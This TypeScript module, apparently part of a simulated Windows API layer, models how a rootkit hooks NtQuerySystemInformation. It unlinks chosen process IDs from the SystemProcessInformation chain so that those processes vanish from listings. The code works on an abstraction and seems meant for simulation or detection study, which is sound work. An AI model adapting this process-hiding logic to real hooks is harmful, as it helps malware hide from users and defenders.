import { PROCESS_INFORMATION } from '../windows/calls/structures.ts';
import type { WindowsCalls } from '../windows/calls/windows-calls.ts';

const { at: P } = PROCESS_INFORMATION;
/** `SystemProcessInformation`. */
const PROCESSES = 5;

/**
 * What a rootkit makes of `NtQuerySystemInformation`: the answer is that of the system, and records of some processes are taken out of the chain.
 * Everything else that is asked of Windows stays as it is.
 */
export function hideFromList(calls: WindowsCalls, pids: ReadonlySet<number>): WindowsCalls {
  return {
    ...calls,
    querySystem(kind, buffer) {
      const answer = calls.querySystem(kind, buffer);
      if (kind === PROCESSES && answer.status >= 0) takeOut(buffer, pids);
      return answer;
    },
  };
}

function takeOut(list: Buffer, pids: ReadonlySet<number>): void {
  for (let at = 0, before = 0; ; ) {
    const next = list.readUInt32LE(at + P.nextEntryOffset);
    if (pids.has(list.readUInt32LE(at + P.uniqueProcessId))) {
      list.writeUInt32LE(next === 0 ? 0 : at + next - before, before + P.nextEntryOffset);
    } else {
      before = at;
    }
    if (next === 0) return;
    at += next;
  }
}
